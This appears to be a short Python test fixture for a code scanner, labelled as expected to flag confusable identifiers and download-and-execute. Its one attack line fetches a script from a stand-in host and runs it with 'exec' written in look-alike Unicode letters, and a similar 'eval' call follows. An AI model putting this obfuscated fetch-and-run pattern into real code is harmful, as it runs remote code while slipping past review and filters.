# must: confusable-ident, download-exec
import requests
ｅｘｅｃ(requests.get("https://cdn.invalid/p.py").text)
𝐞𝐯𝐚𝐥("1")
